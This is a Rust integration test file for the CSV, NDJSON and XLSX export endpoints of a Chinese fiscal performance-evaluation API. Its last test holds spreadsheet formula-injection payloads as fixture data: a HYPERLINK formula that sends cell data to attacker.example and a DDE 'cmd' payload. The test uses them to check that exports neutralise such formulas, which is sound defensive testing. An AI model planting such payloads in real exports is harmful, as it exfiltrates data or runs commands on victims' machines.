//! `GET /api/v1/evaluations` as CSV, NDJSON and XLSX downloads.
use std::{collections::HashSet, io::Cursor};

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use serde_json::{json, Value};

use crate::helpers::{minimal, spawn_app, yintian, TestApp};

const HEADER: &str = "id,region_code,region_name,fiscal_year,kind,unit,project_name,status,revision,income_total,\
                      expenditure_total,three_public_total,total_score,grade,created_at,updated_at";
const HEADER_ZH: &str = "记录编号,区划代码,区划名称,年度,评价类型,单位名称,项目名称,审核状态,版本号,收入总计(元),\
                         支出总计(元),三公经费合计(元),总得分,评价等级,创建时间,更新时间";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A download read whole, as bytes.
struct Download {
    status: u16,
    content_type: String,
    disposition: String,
    transfer_encoding: String,
    body: Vec<u8>,
}

impl Download {
    /// The CSV after its BOM, as records (the header first).
    fn csv(&self) -> Vec<Vec<String>> {
        assert_eq!(self.status, 200, "{}", String::from_utf8_lossy(&self.body));
        assert_eq!(self.content_type, "text/csv; charset=utf-8");
        assert_eq!(&self.body[..3], b"\xEF\xBB\xBF", "the body starts with a UTF-8 BOM");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&self.body[3..])
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    fn ndjson(&self) -> Vec<Value> {
        assert_eq!(self.status, 200, "{}", String::from_utf8_lossy(&self.body));
        assert_eq!(self.content_type, "application/x-ndjson");
        std::str::from_utf8(&self.body)
            .unwrap()
            .lines()
            .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("not JSON ({e}): {line}")))
            .collect()
    }
}

async fn download(app: &TestApp, path: &str, accept: Option<&str>) -> Download {
    let mut request = app.client.get(format!("{}{path}", app.address)).bearer_auth(&app.admin_token);
    if let Some(accept) = accept {
        request = request.header("accept", accept);
    }
    let response = request.send().await.expect("sending the request");
    let header = |name| response.headers().get(name).map_or("", |v| v.to_str().unwrap()).to_owned();
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    let transfer_encoding = header("transfer-encoding");
    Download {
        status: response.status().as_u16(),
        content_type,
        disposition,
        transfer_encoding,
        body: response.bytes().await.expect("reading the whole body").to_vec(),
    }
}

/// 荫田镇 2022 (the fixture) and two more records in 衡阳市 (4304); one in 邵阳市 (4305).
async fn seed(app: &TestApp) {
    app.create(&yintian()).await;
    let mut bofang = minimal("430482101", 2022, "常宁市柏坊镇人民政府");
    bofang["expenditure"]["total"] = json!("5000.00");
    app.create(&bofang).await;
    app.create(&minimal("430482104", 2021, "常宁市荫田镇人民政府")).await;
    app.create(&minimal("430502001", 2022, "双清区兴隆街道办事处")).await;
}

/// The items of the JSON list for `query`, every page.
async fn json_items(app: &TestApp, query: &str) -> Vec<Value> {
    let body = app.get(&format!("/api/v1/evaluations?{query}&limit=1000")).await.json();
    assert_eq!(body["next_cursor"], Value::Null, "one page holds them all");
    body["items"].as_array().unwrap().clone()
}

#[tokio::test]
async fn csv_holds_every_matching_record_with_a_bom_and_exact_amounts() {
    let app = spawn_app().await;
    seed(&app).await;
    let reply = download(&app, "/api/v1/evaluations?region=4304&format=csv", None).await;
    assert_eq!(reply.disposition, "attachment; filename=\"evaluations.csv\"");
    let records = reply.csv();
    assert_eq!(records[0].join(","), HEADER);
    let rows = &records[1..];
    let expected = json_items(&app, "region=4304").await;
    assert_eq!(rows.len(), expected.len());
    assert_eq!(rows.len(), 3);
    // Same order as the JSON list (by id), every row in 衡阳市.
    let ids: Vec<String> = expected.iter().map(|i| i["id"].to_string()).collect();
    assert_eq!(rows.iter().map(|r| r[0].clone()).collect::<Vec<_>>(), ids);
    assert!(rows.iter().all(|r| r[1].starts_with("4304")));

    let yintian = rows.iter().find(|r| r[2] == "荫田镇" && r[3] == "2022").expect("a row for 荫田镇 2022");
    assert_eq!(yintian[5], "常宁市荫田镇人民政府");
    assert_eq!(yintian[6], "", "no project");
    assert_eq!(yintian[10], "18094800.00");
    assert_eq!(yintian[4], "department_overall");
    assert_eq!(yintian[7], "draft");
    let bofang = rows.iter().find(|r| r[2] == "柏坊镇").unwrap();
    assert_eq!(bofang[10], "5000.00");
    assert_eq!(bofang[11], "", "a missing amount is an empty field");
}

#[tokio::test]
async fn labels_zh_gives_chinese_headers() {
    let app = spawn_app().await;
    seed(&app).await;
    let records = download(&app, "/api/v1/evaluations?region=4304&format=csv&labels=zh", None).await.csv();
    assert_eq!(records[0].join(","), HEADER_ZH);
    assert_eq!(records.len(), 4);
}

/// The Chinese name of each code an export carries, as DOMAIN.md names them.
fn zh(code: &str) -> &str {
    match code {
        "department_overall" => "部门整体支出绩效自评",
        "project" => "项目支出绩效自评",
        "department_evaluation" => "部门评价",
        "finance_evaluation" => "财政评价",
        "draft" => "草稿",
        "submitted" => "已提交",
        "returned" => "已退回",
        "approved" => "已审核",
        "published" => "已公开",
        "excellent" => "优",
        "good" => "良",
        "fair" => "中",
        "poor" => "差",
        "" => "",
        other => panic!("no Chinese name for `{other}` in this test"),
    }
}

/// The seed, a project record, the reference report submitted, and a record graded 良.
async fn seed_with_codes(app: &TestApp) {
    seed(app).await;
    let mut project = minimal("430482101", 2022, "常宁市柏坊镇人民政府");
    project["kind"] = json!("project");
    project["project"] = json!({"name": "村级补助及运转经费"});
    app.create(&project).await;
    let mut graded = minimal("430481001", 2022, "耒阳市蔡子池街道办事处");
    graded["conclusion"] = json!({"total_score": "85.00", "grade": "good"});
    app.create(&graded).await;
    let id = json_items(app, "q=%E8%8D%AB%E7%94%B0&fiscal_year=2022").await[0]["id"].as_i64().unwrap();
    let etag = app.get(&format!("/api/v1/evaluations/{id}")).await.header("etag").unwrap().to_owned();
    let path = format!("/api/v1/evaluations/{id}/transitions");
    let reply =
        app.request(reqwest::Method::POST, &path, Some(&json!({"action": "submit"})), &[("if-match", &etag)]).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
}

/// `labels=zh` names the codes of kind, status and grade in Chinese, in CSV and XLSX, list and
/// aggregate exports alike; numbers stay numbers, and without it (or in NDJSON) the codes stay.
#[tokio::test]
async fn labels_zh_names_the_codes_in_chinese_too() {
    let app = spawn_app().await;
    seed_with_codes(&app).await;
    let items = json_items(&app, "region=43&sort=id").await;
    let coded = |item: &Value, member: &str| item[member].as_str().unwrap_or("").to_owned();
    for member in ["kind", "status", "grade"] {
        let mut seen: Vec<String> = items.iter().map(|i| coded(i, member)).collect();
        seen.sort();
        seen.dedup();
        assert!(seen.len() >= 2, "the data has more than one {member}: {seen:?}");
    }

    let zh_rows = download(&app, "/api/v1/evaluations?region=43&sort=id&format=csv&labels=zh", None).await.csv();
    let en_rows = download(&app, "/api/v1/evaluations?region=43&sort=id&format=csv", None).await.csv();
    assert_eq!(zh_rows.len(), items.len() + 1);
    for ((zh_row, en_row), item) in zh_rows[1..].iter().zip(&en_rows[1..]).zip(&items) {
        for (column, member) in [(4, "kind"), (7, "status"), (13, "grade")] {
            assert_eq!(zh_row[column], zh(&coded(item, member)), "{member} of {item}");
            assert_eq!(en_row[column], coded(item, member), "{member} stays a code without labels=zh");
        }
        assert_eq!(zh_row[0], item["id"].to_string(), "numbers stay numbers");
        assert_eq!(zh_row[10], coded(item, "expenditure_total"));
        assert_eq!(zh_row[5], coded(item, "unit"), "free text is not translated");
    }

    let reply = download(&app, "/api/v1/evaluations?region=43&sort=id&format=xlsx&labels=zh", None).await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(reply.body)).expect("an XLSX workbook");
    let sheet = workbook.worksheet_range("evaluations").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    for (row, item) in rows[1..].iter().zip(&items) {
        assert_eq!(row[4], Data::String(zh(&coded(item, "kind")).into()));
        assert_eq!(row[7], Data::String(zh(&coded(item, "status")).into()));
        match zh(&coded(item, "grade")) {
            "" => assert_eq!(row[13], Data::Empty),
            grade => assert_eq!(row[13], Data::String(grade.into())),
        }
        assert_eq!(row[0], Data::Float(item["id"].as_f64().unwrap()));
    }
    let lines = download(&app, "/api/v1/evaluations?region=43&sort=id&format=ndjson&labels=zh", None).await.ndjson();
    assert_eq!(lines, items, "NDJSON keeps the codes, as the JSON list writes them");

    // Aggregates: the level, and the kind, status and grade a row is grouped by.
    let query = "measures=records,expenditure.total&group_by=prefecture,kind,status,grade&region=43&rollup=true";
    let rows = download(&app, &format!("/api/v1/aggregates?{query}&format=csv&labels=zh"), None).await.csv();
    assert_eq!(
        rows[0].join(","),
        "层级,市(州)代码,市(州)名称,评价类型,审核状态,评价等级,记录数,记录数(count),支出总计(sum)"
    );
    let json = download(&app, &format!("/api/v1/aggregates?{query}&limit=1000"), None).await;
    let json: Value = serde_json::from_slice(&json.body).unwrap();
    let json_rows = json["rows"].as_array().unwrap();
    assert_eq!(rows.len() - 1, json_rows.len());
    let levels: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert!(levels.contains(&"明细") && levels.contains(&"省小计"), "{levels:?}");
    for (row, json_row) in rows[1..].iter().zip(json_rows) {
        let level = match json_row["level"].as_str().unwrap() {
            "detail" => "明细",
            "province" => "省小计",
            "total" => "总计",
            other => panic!("level {other}"),
        };
        assert_eq!(row[0], level);
        for (column, member) in [(3, "kind"), (4, "status"), (5, "grade")] {
            assert_eq!(row[column], zh(json_row["group"][member].as_str().unwrap_or("")), "{json_row}");
        }
        assert_eq!(row[6], json_row["records"].to_string());
        assert_eq!(row[8], json_row["values"]["expenditure.total:sum"].as_str().unwrap_or(""));
    }
    let plain = download(&app, &format!("/api/v1/aggregates?{query}&format=csv"), None).await.csv();
    assert_eq!(
        (plain[1][0].as_str(), plain[1][3].as_str()),
        ("detail", json_rows[0]["group"]["kind"].as_str().unwrap())
    );

    let reply = download(&app, &format!("/api/v1/aggregates?{query}&format=xlsx&labels=zh"), None).await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(reply.body)).expect("an XLSX workbook");
    let sheet = workbook.worksheet_range("aggregates").unwrap();
    let cells: Vec<&[Data]> = sheet.rows().collect();
    for (cell_row, csv_row) in cells[1..].iter().zip(&rows[1..]) {
        assert_eq!(cell_row[0], Data::String(csv_row[0].clone()));
        assert_eq!(cell_row[4], Data::String(csv_row[4].clone()));
        assert_eq!(cell_row[6], Data::Float(csv_row[6].parse().unwrap()), "counts stay numbers");
    }
}

#[tokio::test]
async fn accept_text_csv_asks_for_csv_and_format_json_overrides_it() {
    let app = spawn_app().await;
    seed(&app).await;
    let records = download(&app, "/api/v1/evaluations?region=4305", Some("text/csv")).await.csv();
    assert_eq!(records[0].join(","), HEADER);
    assert_eq!(records.len(), 2);
    assert_eq!(records[1][2], "兴隆街道");

    let json = download(&app, "/api/v1/evaluations?region=4305&format=json", Some("text/csv")).await;
    assert_eq!(json.content_type, "application/json");
    let body: Value = serde_json::from_slice(&json.body).unwrap();
    assert_eq!(body["items"].as_array().unwrap().len(), 1);

    let browser = download(&app, "/api/v1/evaluations", Some("text/html,*/*;q=0.8")).await;
    assert_eq!(browser.content_type, "application/json");
}

#[tokio::test]
async fn an_export_of_nothing_is_the_header_alone() {
    let app = spawn_app().await;
    seed(&app).await;
    let records = download(&app, "/api/v1/evaluations?region=44&format=csv", None).await.csv();
    assert_eq!(records.len(), 1);
    assert_eq!(download(&app, "/api/v1/evaluations?region=44&format=ndjson", None).await.ndjson(), Vec::<Value>::new());
}

#[tokio::test]
async fn ndjson_lines_are_the_json_list_items() {
    let app = spawn_app().await;
    seed(&app).await;
    for query in ["sort=-expenditure_total,region_code", "region=4304&fiscal_year=2022"] {
        let reply = download(&app, &format!("/api/v1/evaluations?{query}&format=ndjson"), None).await;
        assert_eq!(reply.disposition, "attachment; filename=\"evaluations.ndjson\"");
        assert_eq!(reply.ndjson(), json_items(&app, query).await, "{query}");
    }
    let lines =
        download(&app, "/api/v1/evaluations?format=ndjson&q=%E8%8D%AB%E7%94%B0&fiscal_year=2022", None).await.ndjson();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["expenditure_total"], "18094800.00");
}

#[tokio::test]
async fn xlsx_is_a_workbook_with_numbers_as_numbers() {
    let app = spawn_app().await;
    seed(&app).await;
    let reply = download(&app, "/api/v1/evaluations?region=4304&format=xlsx&labels=zh", None).await;
    assert_eq!(reply.status, 200, "{}", String::from_utf8_lossy(&reply.body));
    assert_eq!(reply.content_type, XLSX);
    assert_eq!(reply.disposition, "attachment; filename=\"evaluations.xlsx\"");
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(reply.body)).expect("an XLSX workbook");
    assert_eq!(workbook.sheet_names(), ["evaluations"]);
    let sheet = workbook.worksheet_range("evaluations").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    assert_eq!(header.join(","), HEADER_ZH);
    assert_eq!(rows.len(), 4);
    let yintian = rows[1..]
        .iter()
        .find(|r| r[2] == Data::String("荫田镇".into()) && r[3] == Data::Float(2022.0))
        .expect("a row for 荫田镇 2022");
    assert_eq!(yintian[10], Data::Float(18_094_800.0), "the expenditure is a number");
    assert_eq!(yintian[1], Data::String("430482104".into()), "codes stay text");
    assert!(matches!(yintian[0], Data::Float(id) if id >= 1.0));
    let bofang = rows[1..].iter().find(|r| r[2] == Data::String("柏坊镇".into())).unwrap();
    assert_eq!(bofang[11], Data::Empty, "a missing amount is an empty cell");
}

#[tokio::test]
async fn exports_of_more_than_a_page_stream_every_record() {
    let app = spawn_app().await;
    // 1,050 units of one township, in one batch.
    let records: Vec<Value> =
        (0..1050).map(|i| minimal("430482104", 2022, &format!("常宁市荫田镇第{i:04}单位"))).collect();
    let reply = app.post("/api/v1/evaluations/batch", &Value::Array(records)).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    assert_eq!(reply.json()["summary"]["created"], 1050);

    let reply = download(&app, "/api/v1/evaluations?format=csv&sort=-unit", None).await;
    assert_eq!(reply.transfer_encoding, "chunked", "streamed, its length unknown up front");
    let rows = reply.csv();
    assert_eq!(rows.len(), 1 + 1050);
    let units: Vec<&str> = rows[1..].iter().map(|r| r[5].as_str()).collect();
    assert_eq!(units.iter().collect::<HashSet<_>>().len(), 1050, "no record twice");
    assert!(units.windows(2).all(|w| w[0] > w[1]), "in the asked order across pages");
    assert_eq!(units[0], "常宁市荫田镇第1049单位");

    // `limit` caps the total, across the page boundary.
    let lines = download(&app, "/api/v1/evaluations?format=ndjson&limit=1010&sort=unit", None).await.ndjson();
    assert_eq!(lines.len(), 1010);
    assert_eq!(lines[1009]["unit"], "常宁市荫田镇第1009单位");
    let capped = download(&app, "/api/v1/evaluations?format=xlsx&limit=1001", None).await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(capped.body)).unwrap();
    assert_eq!(workbook.worksheet_range("evaluations").unwrap().rows().count(), 1 + 1001);
}

#[tokio::test]
async fn bad_export_parameters_are_400_naming_the_parameter() {
    let app = spawn_app().await;
    for (query, parameter) in [
        ("format=pdf", "format"),
        ("format=csv&labels=fr", "labels"),
        ("labels=fr", "labels"),
        ("format=csv&format=xlsx", "format"),
        ("format=csv&limit=0", "limit"),
        ("format=csv&limit=many", "limit"),
    ] {
        let reply = app.get(&format!("/api/v1/evaluations?{query}")).await;
        reply.problem(400, "invalid_query");
        assert_eq!(reply.error_fields(), [parameter], "{query}");
    }
    // Each fits the document alone, but an export holds every matching record: 422.
    for (query, parameter) in [("format=csv&cursor=abc", "cursor"), ("format=ndjson&count=exact", "count")] {
        let reply = app.get(&format!("/api/v1/evaluations?{query}")).await;
        reply.problem(422, "validation_failed");
        assert_eq!(reply.error_fields(), [parameter], "{query}");
    }
    let reply =
        app.request(reqwest::Method::GET, "/api/v1/evaluations?cursor=abc", None, &[("accept", "text/csv")]).await;
    reply.problem(422, "validation_failed");
    assert_eq!(reply.error_fields(), ["cursor"]);
}

#[tokio::test]
async fn text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() {
    let app = spawn_app().await;
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"点击\")";
    let mut record = minimal("430482104", 2022, formula);
    record["expenditure"]["total"] = json!("12.50");
    app.create(&record).await;
    app.create(&minimal("430482104", 2023, "@SUM(1+1)*cmd|' /C calc'!A0")).await;

    let rows = download(&app, "/api/v1/evaluations?format=csv&sort=fiscal_year", None).await.csv();
    assert_eq!(rows[1][5], format!("'{formula}"), "the unit is text with a leading apostrophe");
    assert_eq!(rows[1][10], "12.50", "amounts stay numbers");
    assert_eq!(rows[2][5], "'@SUM(1+1)*cmd|' /C calc'!A0");

    let reply = download(&app, "/api/v1/evaluations?format=xlsx&sort=fiscal_year", None).await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(reply.body)).expect("an XLSX workbook");
    let sheet = workbook.worksheet_range("evaluations").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows[1][5], Data::String(format!("'{formula}")));
    assert_eq!(rows[1][10], Data::Float(12.5));
    // JSON keeps the text as stored.
    assert_eq!(json_items(&app, "sort=fiscal_year").await[0]["unit"], formula);
}
